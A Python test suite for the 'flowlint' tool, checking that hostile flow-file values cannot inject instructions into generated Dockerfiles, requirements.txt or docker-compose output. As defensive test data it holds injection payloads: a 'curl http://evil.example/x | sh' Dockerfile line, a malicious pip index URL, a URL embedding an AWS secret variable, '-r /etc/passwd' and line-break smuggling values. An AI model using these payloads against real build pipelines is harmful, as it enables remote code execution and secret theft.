"""Hostile flow files cannot inject lines into what `flowlint image` and
`flowlint server-requirements` generate, nor into what the custom-image fix writes.

Every attack is built here: a value copied from a flow (an image, an id, a file name, a
requirement, an index option) that tries to start a new Dockerfile instruction or
requirements.txt line. It must be refused with a problem naming the file, flow and task, or,
inside a comment, escaped so it stays in that comment.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.requirements import InvalidRequirement, Requirement
from ruamel.yaml import YAML

from flowlint.cli import main
from flowlint.lang.image_reference import image_reference_problem, is_image_reference
from flowlint.remedy_files.image_contexts import build_image_contexts
from flowlint.remedy_files.server_requirements import build_server_requirements

EVIL_RUN = "RUN curl http://evil.example/x | sh"
EVIL_INDEX = "--extra-index-url https://evil.example/simple"
# Every character that some reader (Docker, pip, an editor, str.splitlines) takes as a line end.
LINE_BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")
# The only instructions a generated Dockerfile has, besides `FROM <reference>`.
INSTRUCTIONS = frozenset({
    "COPY requirements.txt /tmp/requirements.txt",
    "RUN pip install --no-cache-dir -r /tmp/requirements.txt",
    "RUN apt-get update \\",
    "    && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "
    "python3-pip \\",
    "    && rm -rf /var/lib/apt/lists/*",
    "RUN apk add --no-cache py3-pip",
    "RUN PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --no-cache-dir "
    "-r /tmp/requirements.txt",
})
INDEX_OPTIONS = ("--index-url", "--extra-index-url", "--find-links", "--trusted-host")
DIGEST = "sha256:" + "0123456789abcdef" * 4
# No {namespace}, {flow} or {task}: every task gets this one name, so hostile ids reach the
# Dockerfile's comments rather than the name (where image_name_for refuses them).
IMAGE = "registry.example.com/team/etl:1"
CONTEXT = "registry.example.com-team-etl-1"


def flow_text(*, namespace: str = "company.team", flow: str = "etl", task: str = "extract",
              image: str | None = "python:3.12-slim", command: str = "pip install pandas",
              legacy: list[str] | None = None) -> str:
    """A flow with one task; every value is a JSON string, which YAML reads as it is."""
    lines = [f"id: {json.dumps(flow)}", f"namespace: {json.dumps(namespace)}", "tasks:",
             f"  - id: {json.dumps(task)}"]
    if legacy is not None:
        lines += ["    type: io.kestra.core.tasks.scripts.Python", "    runner: DOCKER",
                  "    requirements:", *(f"      - {json.dumps(line)}" for line in legacy)]
        if image is not None:
            lines += ["    dockerOptions:", f"      image: {json.dumps(image)}"]
        return "\n".join(lines) + "\n"
    lines += ["    type: io.kestra.plugin.scripts.python.Commands",
              f"    beforeCommands: [{json.dumps(command)}]", "    commands: [python main.py]"]
    if image is not None:
        lines.append(f"    containerImage: {json.dumps(image)}")
    return "\n".join(lines) + "\n"


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def run_image(paths: list[Path], output: Path, capsys: pytest.CaptureFixture[str],
              image: str = IMAGE) -> tuple[int, dict[str, str], str]:
    """`flowlint image PATHS --output OUTPUT --image IMAGE`: exit code, generated files,
    stderr."""
    code = main(["image", *map(str, paths), "--output", str(output), "--image", image])
    err = capsys.readouterr().err
    files = {str(path.relative_to(output)): path.read_text(encoding="utf-8")
             for path in sorted(output.rglob("*")) if path.is_file()} if output.exists() else {}
    return code, files, err


def run_server(paths: list[Path], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(["server-requirements", *map(str, paths)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_dockerfile_is_safe(text: str) -> None:
    """Comments, the fixed instructions and one `FROM <reference>`: nothing else."""
    lines = text.split("\n")
    assert lines.pop() == ""
    froms = [line for line in lines if line.startswith("FROM ")]
    assert len(froms) == 1 and is_image_reference(froms[0][len("FROM "):]), froms
    for line in lines:
        assert line.isprintable(), f"a line break or control character in {line!r}"
        assert line.startswith("#") or line in INSTRUCTIONS or line in froms, line


def is_allowed_requirement_line(line: str) -> bool:
    if line.startswith("#"):
        return True
    name, _, value = line.partition(" ")
    if name in INDEX_OPTIONS:
        return bool(re.fullmatch(r"[A-Za-z0-9][^\s$`'\"\\]*", value))
    if line in ("--no-index", "--pre") or line.startswith("-"):
        return line in ("--no-index", "--pre")
    if re.match(r"[a-z+]+://", line):   # a bare URL: one word
        return not re.search(r"[\s$`'\"\\]", line)
    try:
        requirement = Requirement(line)
    except InvalidRequirement:
        return False
    return not any(word.startswith("-") for word in line.split()) \
        and (requirement.url is None or not re.search(r"[\s$`'\"\\]", requirement.url))


def assert_requirements_are_safe(text: str) -> None:
    lines = text.split("\n")
    assert lines.pop() == ""
    for line in lines:
        assert line.isprintable(), f"a line break or control character in {line!r}"
        assert is_allowed_requirement_line(line), line
        assert "evil" not in line or line.startswith("#"), line


def assert_server_output_is_safe(out: str) -> None:
    for line in out.split("\n"):
        assert line.isprintable(), f"a line break or control character in {line!r}"
        assert EVIL_INDEX not in line or line.startswith("#"), line
    if "docker-compose.yml" not in out:
        return
    txt = out.split("# requirements.txt\n", 1)[1].split("\n# Command line", 1)[0]
    assert_requirements_are_safe(txt)
    compose = out.split("# docker-compose.yml: merge into your kestra service\n", 1)[1]
    assert "$" not in compose   # compose interpolates `$` anywhere in the file
    document = YAML(typ="safe", pure=True).load(compose)
    assert list(document) == ["services"] and list(document["services"]) == ["kestra"]
    [script] = document["services"]["kestra"]["command"]
    words = shlex.split(script)
    assert words[:3] == ["PIP_BREAK_SYSTEM_PACKAGES=1", "pip", "install"]
    end = words.index("&&")
    assert words[end:] == ["&&", "exec", "docker-entrypoint.sh", "server", "standalone",
                           "--worker-thread=16"]
    assert_requirements_are_safe("".join(f"{word}\n" for word in _lines_of(words[3:end])))


def _lines_of(words: list[str]) -> list[str]:
    """pip's arguments back as requirements.txt lines: an option with its value, or a word."""
    lines: list[str] = []
    for word in words:
        if lines and lines[-1] in INDEX_OPTIONS:
            lines[-1] += f" {word}"
        else:
            lines.append(word)
    return lines


# ----------------------------------------------------------------------------- images


@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_an_image_with_a_second_instruction_is_refused(tmp_path: Path, brk: str,
                                                       capsys) -> None:
    evil = write(tmp_path / "flows", "evil.yaml",
                 flow_text(image=f"python:3.11-slim{brk}{EVIL_RUN}"))
    honest = write(tmp_path / "flows", "honest.yaml",
                   flow_text(flow="report", command="pip install requests"))
    code, files, err = run_image([evil, honest], tmp_path / "out", capsys)

    assert code == 1   # a refused install is not a clean run
    assert sorted(files) == [f"{CONTEXT}/Dockerfile", f"{CONTEXT}/requirements.txt"]
    assert_dockerfile_is_safe(files[f"{CONTEXT}/Dockerfile"])
    assert files[f"{CONTEXT}/requirements.txt"] == "requests\n"
    assert "evil.yaml" not in files[f"{CONTEXT}/Dockerfile"]
    [problem] = [line for line in err.splitlines() if "evil.yaml" in line]
    assert f"{evil}: company.team/etl task 'extract': containerImage" in problem
    assert f"is not an image reference: it contains {brk[0]!r}" in problem
    assert "its packages are not gathered" in problem
    assert EVIL_RUN in problem and problem.isprintable()   # escaped: one line


@pytest.mark.parametrize("image", [
    "python:3.11-slim RUN id", "python:3.11-slim\tRUN id", "python:3.11-slim\x00",
    "Python:3.11", "python:3.11@sha256:abc", "python:-x", "python:3.11 AS build",
    "--platform=linux/amd64 python", "python:3.11\u00a0x", "reg:5000:6000/x",
])
def test_what_is_not_an_image_reference_is_refused(tmp_path: Path, image: str,
                                                  capsys) -> None:
    flow = write(tmp_path / "flows", "a.yaml", flow_text(image=image))
    code, files, err = run_image([flow], tmp_path / "out", capsys)
    assert files == {}
    assert "company.team/etl task 'extract': containerImage" in err
    assert "is not an image reference" in err


@pytest.mark.parametrize("field", ["namespace", "flow", "task"])
@pytest.mark.parametrize("brk", LINE_BREAKS)
def test_ids_with_line_breaks_stay_inside_the_comment(tmp_path: Path, field: str, brk: str,
                                                       capsys) -> None:
    value = {"namespace": "company.team", "flow": "etl", "task": "extract"}
    value[field] += f"{brk}{EVIL_RUN}"
    flow = write(tmp_path / "flows", "a.yaml", flow_text(**value))
    code, files, err = run_image([flow], tmp_path / "out", capsys)

    assert code == 0
    dockerfile = files[f"{CONTEXT}/Dockerfile"]
    assert_dockerfile_is_safe(dockerfile)
    escaped = repr(brk)[1:-1]
    assert f"{escaped}{EVIL_RUN}" in dockerfile   # visible, on a comment line
    assert files[f"{CONTEXT}/requirements.txt"] == "pandas\n"


def test_a_file_name_with_a_line_break_stays_inside_the_comments(tmp_path: Path,
                                                                  capsys) -> None:
    flow = write(tmp_path / "flows", f"a\n{EVIL_RUN.replace('/', '_')}\r.yaml", flow_text())
    code, files, err = run_image([flow.parent], tmp_path / "out", capsys)

    assert code == 0
    dockerfile = files[f"{CONTEXT}/Dockerfile"]
    assert_dockerfile_is_safe(dockerfile)
    shell_line = next(line for line in dockerfile.splitlines() if "flowlint check" in line)
    assert shell_line.startswith("#") and "a\\nRUN curl" in shell_line
    assert shell_line.endswith("sh\\r.yaml'")


def test_a_conflict_comment_in_requirements_stays_one_line(tmp_path: Path, capsys) -> None:
    one = write(tmp_path / "flows", "a.yaml", flow_text(command="pip install pandas==2.2"))
    two = write(tmp_path / "flows", "b.yaml",
                flow_text(flow=f"report\n{EVIL_INDEX}", command="pip install pandas==2.1"))
    code, out, err = run_server([one, two], capsys)

    assert_server_output_is_safe(out)
    text = out.split("# requirements.txt\n", 1)[1].split("\n# Command line", 1)[0]
    assert text.splitlines()[0].startswith("# conflict: 'pandas==2.1' is wanted by")
    assert f"company.team/report\\n{EVIL_INDEX} task 'extract'" in text
    [problem] = [line for line in err.splitlines() if "conflicting" in line]
    assert f"company.team/report\\n{EVIL_INDEX} task 'extract'" in problem


# ----------------------------------------------------------------------------- requirements

INJECTED_REQUIREMENTS = [
    # A quoted word with a line break: one argument to pip, two lines in requirements.txt.
    pytest.param(f'pip install "pandas\n{EVIL_INDEX}"', "'\\n'", id="newline-in-word"),
    pytest.param(f"pip install 'pandas\r{EVIL_INDEX}'", "'\\r'", id="cr-in-word"),
    pytest.param(f"pip install 'pandas\u2028{EVIL_INDEX}'", "'\\u2028'", id="u2028-in-word"),
    pytest.param(f"pip install 'pandas\t{EVIL_INDEX}'", "'\\t'", id="tab-in-word"),
    pytest.param(f"pip install 'https://x.example/a.whl\n{EVIL_INDEX}'", "'\\n'",
                 id="newline-in-url"),
    pytest.param(f"pip install 'pkg @ https://x.example/a.whl\n{EVIL_INDEX}'", "'\\n'",
                 id="newline-in-direct-reference"),
    # Parses as PEP 508 (the option is inside a marker string), but pip splits the line at
    # words starting with '-' and reads the rest as options.
    pytest.param("pip install 'pandas; python_version > \" --extra-index-url=evil.example\"'",
                 "which pip reads as an option", id="option-word-in-marker-string"),
    pytest.param("pip install 'https://x.example/a.whl --extra-index-url=https://evil.example'",
                 "is not a URL of one word", id="space-in-url"),
    pytest.param("pip install 'https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl'",
                 "expanded by the shell", id="env-var-in-url"),
    pytest.param("pip install 'https://evil.example/a.whl\\'", "is not a URL of one word",
                 id="line-joining-backslash"),
    pytest.param(f"pip install --index-url 'https://ok.example/simple\n{EVIL_INDEX}' pandas",
                 "'\\n'", id="newline-in-index-url"),
    pytest.param(f"pip install --trusted-host 'ok.example\n{EVIL_INDEX}' pandas", "'\\n'",
                 id="newline-in-trusted-host"),
    pytest.param(f"pip install -f 'https://ok.example/\r\n{EVIL_INDEX}' pandas", "'\\r'",
                 id="crlf-in-find-links"),
    pytest.param("pip install --index-url 'https://ok.example/simple https://evil.example' x",
                 "the value is not a URL of one word", id="two-words-in-index-url"),
    pytest.param("pip install --trusted-host 'evil.example/simple' pandas",
                 "is not a host name", id="path-in-trusted-host"),
]


@pytest.mark.parametrize(("command", "why"), INJECTED_REQUIREMENTS)
def test_injected_requirement_lines_are_refused(tmp_path: Path, command: str, why: str,
                                                capsys) -> None:
    flow = write(tmp_path / "flows", "a.yaml", flow_text(command=command))
    output = tmp_path / "out"
    code, files, err = run_image([flow], output, capsys)
    for name, text in files.items():
        if name.endswith("requirements.txt"):
            assert_requirements_are_safe(text)
        else:
            assert_dockerfile_is_safe(text)
    assert "evil" not in "".join(files.values())
    refusal = next(line for line in err.splitlines() if "evil" in line)
    assert refusal.startswith(f"flowlint: {flow}: company.team/etl task 'extract': ")
    assert "'pip install" in refusal
    assert why in refusal and refusal.isprintable()

    code, out, err = run_server([flow], capsys)
    assert code == 1   # a refused install is not a clean run
    assert_server_output_is_safe(out)
    assert "evil" not in out
    assert why in err


@pytest.mark.parametrize(("line", "why"), [
    (f"pandas\n{EVIL_INDEX}", "'\\n'"),
    (f"pandas\x85{EVIL_INDEX}", "'\\x85'"),
    (f"--index-url https://ok.example/simple\n{EVIL_INDEX}", "'\\n'"),
    (f"--trusted-host ok.example\n{EVIL_INDEX}", "'\\n'"),
    ("--trusted-host evil.example/simple", "not a host name"),
    ("--index-url https://ok.example/simple'evil", "not a URL of one word"),
    ("--find-links=https://evil.example/$HOME", "known only at run time"),
    ("-ihttps://evil.example/simple\x00", "'\\x00'"),
    ("https://evil.example/a.whl\\", "is not a URL of one word"),
])
def test_injected_legacy_requirement_lines_are_refused(tmp_path: Path, line: str, why: str,
                                                       capsys) -> None:
    flow = write(tmp_path / "flows", "a.yaml", flow_text(legacy=["requests", line]))
    code, files, err = run_image([flow], tmp_path / "out", capsys)

    # The custom-image fix refuses the task, so no image is built for it.
    assert files == {}
    refusal = next(line for line in err.splitlines() if "evil" in line)
    assert f"{flow}: company.team/etl task 'extract': " in refusal
    assert "requirements line" in refusal
    assert why in refusal and refusal.isprintable()

    code, out, err = run_server([flow], capsys)
    assert_server_output_is_safe(out)
    assert "evil" not in out and "pip install requests && ./kestra" in out


def test_honest_values_still_work(tmp_path: Path, capsys) -> None:
    digest_image = f"python:3.12-slim@{DIGEST}"
    command = ("pip install --index-url https://pypi.example/simple --trusted-host "
               "pypi.example:8443 -f https://wheels.example/links/ 'requests[socks]>=2.31' "
               "'numpy<2; python_version >= \"3.9\"' "
               "'pkg @ https://files.example/pkg-1.0-py3-none-any.whl' "
               "'git+https://github.com/org/repo.git@v1.2#egg=repo'")
    one = write(tmp_path / "flows", "a.yaml", flow_text(image=digest_image, command=command))
    two = write(tmp_path / "flows", "b.yaml",
                flow_text(flow="report", image="localhost:5000/a/b", legacy=[
                    "pandas==2.2", "--extra-index-url https://mirror.example/simple"]))
    code, files, err = run_image([one, two], tmp_path / "out", capsys,
                                 image="registry.example.com/{flow}:1")

    assert code == 0 and err == ""
    assert len(files) == 4
    dockerfiles = {name.split("/")[0]: text for name, text in files.items()
                   if name.endswith("Dockerfile")}
    for name, text in files.items():
        if name.endswith("Dockerfile"):
            assert_dockerfile_is_safe(text)
        else:
            assert_requirements_are_safe(text)
    digest_folder = "registry.example.com-etl-1"
    assert f"FROM {digest_image}\n" in dockerfiles[digest_folder]
    assert "FROM localhost:5000/a/b\n" in dockerfiles["registry.example.com-report-1"]
    assert files[f"{digest_folder}/requirements.txt"] == (
        "--find-links https://wheels.example/links/\n"
        "--index-url https://pypi.example/simple\n"
        "--trusted-host pypi.example:8443\n"
        'numpy<2; python_version >= "3.9"\n'
        "pkg @ https://files.example/pkg-1.0-py3-none-any.whl\n"
        "requests[socks]>=2.31\n"
        "git+https://github.com/org/repo.git@v1.2#egg=repo\n")
    assert files["registry.example.com-report-1/requirements.txt"] == (
        "--extra-index-url https://mirror.example/simple\npandas==2.2\n")

    code, out, err = run_server([one, two], capsys)
    assert code == 0 and err == ""
    assert_server_output_is_safe(out)
    assert "--index-url https://pypi.example/simple --trusted-host pypi.example:8443" in out
    assert "'pkg @ https://files.example/pkg-1.0-py3-none-any.whl'" in out


def test_server_comments_keep_ids_on_their_line(tmp_path: Path, capsys) -> None:
    flow = write(tmp_path / "flows", "a.yaml",
                 flow_text(task=f"extract\n{EVIL_INDEX}", namespace="ns\u2029x"))
    code, out, err = run_server([flow], capsys)
    assert_server_output_is_safe(out)
    assert f"#   {flow}: ns\\u2029x/etl task 'extract\\n{EVIL_INDEX}'\n" in out


# ----------------------------------------------------------------------------- the fix

LEGACY = """\
id: etl
namespace: company.team
tasks:
  - id: legacy
    type: io.kestra.core.tasks.scripts.Python
    runner: DOCKER
    dockerOptions:
      image: python:3.11
    requirements: [pandas]
"""
MODERN = flow_text(task="modern")


@pytest.mark.parametrize(("template", "reason"), [
    ("reg/{bad}:1", "image template 'reg/{bad}:1' is not valid (unknown field 'bad'); use "
                    "{namespace}, {flow} and {task}"),
    ("reg/{flow.__class__}:1", "(unknown field 'flow.__class__')"),
    ("reg/{flow[0]}:1", "(unknown field 'flow[0]')"),
    ("reg/{flow!r}:1", "('flow' takes no conversion or format)"),
    ("reg/{flow:>99999999999}:1", "('flow' takes no conversion or format)"),
    ("reg/{flow", "(expected '}' before end of string)"),
    ("Reg/App:{flow}", "image 'Reg/App:etl' (from --image 'Reg/App:{flow}') is not an image "
                       "reference: name 'Reg/App' is not [registry[:port]/]path"),
    ("reg/{flow}:1\nRUN id", "is not an image reference: it contains '\\n'"),
    ("reg/{flow}:{{1}}", "image 'reg/etl:{1}' (from --image 'reg/{flow}:{{1}}') is not an "
                         "image reference: tag '{1}'"),   # '{{' is a literal brace
])
@pytest.mark.parametrize("flow", [LEGACY, MODERN], ids=["legacy", "modern"])
def test_a_bad_image_template_is_a_refusal_not_a_crash(tmp_path: Path, capsys, flow: str,
                                                       template: str, reason: str) -> None:
    # A legacy task once formatted the template itself: `{bad}` ended in an internal error.
    path = write(tmp_path, "flow.yaml", flow)
    code = main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image",
                 "--image", template, str(path)])
    out = capsys.readouterr().out
    assert code == 1
    assert "internal error" not in out
    strategy = "migrate" if flow is LEGACY else "custom-image"
    assert f"= no fix ({strategy}): " in out and reason in out
    assert path.read_text() == flow


@pytest.mark.parametrize("flow", [LEGACY, MODERN], ids=["legacy", "modern"])
def test_a_flow_id_with_capitals_is_lowercased_in_the_image(tmp_path: Path, capsys,
                                                             flow: str) -> None:
    """Docker refuses capitals in a repository: the ids filled in are lowercased, and a
    template whose own text has capitals is refused."""
    text = flow.replace("id: etl", "id: MyFlow").replace('id: "etl"', 'id: "MyFlow"')
    assert "MyFlow" in text
    path = write(tmp_path, "flow.yaml", text)
    main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image",
          "--image", "reg/{namespace}/{flow}:1", str(path)])
    capsys.readouterr()
    assert "reg/company.team/myflow:1" in path.read_text()
    path.write_text(text)
    main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image",
          "--image", "reg/{namespace}/App-{flow}:1", str(path)])
    out = capsys.readouterr().out
    assert "image 'reg/company.team/App-myflow:1' (from --image " \
           "'reg/{namespace}/App-{flow}:1') is not an image reference" in out
    assert path.read_text() == text


@pytest.mark.parametrize("flow", [LEGACY, MODERN], ids=["legacy", "modern"])
def test_a_good_template_is_filled_in(tmp_path: Path, capsys, flow: str) -> None:
    path = write(tmp_path, "flow.yaml", flow)
    code = main(["check", "--fix", "--unsafe-fixes", "--strategy", "custom-image",
                 "--image", "reg.example:5000/{namespace}/{flow}-{task}:1", str(path)])
    capsys.readouterr()
    assert code == 0
    task = "legacy" if flow is LEGACY else "modern"
    assert f"containerImage: reg.example:5000/company.team/etl-{task}:1" in path.read_text()


# ----------------------------------------------------------------------------- references

@pytest.mark.parametrize("text", [
    "python", "python:3.12-slim", "library/python:3.12", "docker.io/library/python:3.12",
    f"ghcr.io/org/img:1.2@{DIGEST}", f"python@{DIGEST}", "localhost:5000/a/b",
    "localhost/a", "reg.example.com:443/team/app_name__x.y-z:v1.0_rc-1", "[::1]:5000/a:b",
    "Registry.Example/a", "a" * 255, "a:" + "A" * 128,
])
def test_image_references(text: str) -> None:
    assert image_reference_problem(text) is None


@pytest.mark.parametrize(("text", "why"), [
    ("", "it is empty"),
    ("python\n", "it contains '\\n'"),
    ("python:3.12 ", "it contains ' '"),
    ("python\u2028", "it contains '\\u2028'"),
    ("Python", "name 'Python' is not"),
    ("a//b", "name 'a//b' is not"),
    ("a-/b", "name 'a-/b' is not"),
    ("a" * 256, "longer than 255"),
    ("a:" + "1" * 129, "tag '1"),
    ("a:-1", "tag '-1'"),
    ("a:", "tag ''"),
    ("a@sha256:" + "A" * 64, "digest"),
    ("a@md5:" + "0" * 32, "digest"),
    ("a@sha256:" + "0" * 63, "digest"),
    ("reg:port/a", "name 'reg:port/a' is not"),
])
def test_not_image_references(text: str, why: str) -> None:
    problem = image_reference_problem(text)
    assert problem is not None and why in problem
    assert not is_image_reference(text)


# ----------------------------------------------------------------------------- properties

HONEST = ("python:3.12-slim", "pandas", "company.team", "extract", "https://x.example/a.whl",
          "ghcr.io/org/img:1", "requests>=2")
INJECTIONS = (EVIL_RUN, EVIL_INDEX, "FROM evil", "ENTRYPOINT [\"sh\"]", "# syntax=evil",
              "-r /etc/passwd", "\\", "${HOME}", "'", '"', "\"}\n  evil: [1]")
hostile = st.one_of(
    st.text(max_size=30),
    st.builds(lambda honest, brk, evil: honest + brk + evil, st.sampled_from(HONEST),
              st.sampled_from(LINE_BREAKS + (" ", "\t", "\x00", "")), st.sampled_from(INJECTIONS)),
)
# Honest values half the time, so that files are generated around the hostile ones.
maybe_hostile = st.one_of(st.sampled_from(HONEST), hostile)


@settings(max_examples=int(os.environ.get("FLOWLINT_EXAMPLES", "60")), deadline=None,
          database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(image=st.one_of(st.none(), maybe_hostile), namespace=hostile, task=hostile,
       requirement=maybe_hostile, legacy=st.booleans())
def test_generated_files_hold_only_what_they_must(image: str | None, namespace: str, task: str,
                                                  requirement: str, legacy: bool) -> None:
    text = flow_text(namespace=namespace, task=task, image=image,
                     command=f"pip install requests {shlex.quote(requirement)}",
                     legacy=["requests", requirement] if legacy else None)
    with tempfile.TemporaryDirectory() as folder:
        path = write(Path(folder), "flow.yaml", text)
        plan = build_image_contexts([str(path)], image_template=IMAGE)
        plan.write(str(Path(folder) / "out"))
        for written in sorted((Path(folder) / "out").rglob("*")):
            if written.is_dir():
                continue
            content = written.read_text(encoding="utf-8")
            if written.name == "Dockerfile":
                assert_dockerfile_is_safe(content)
            else:
                assert_requirements_are_safe(content)
        server = build_server_requirements([str(path)])
    assert_server_output_is_safe(server.text)
    for problem in (*plan.problems, *server.problems):
        assert problem.isprintable()
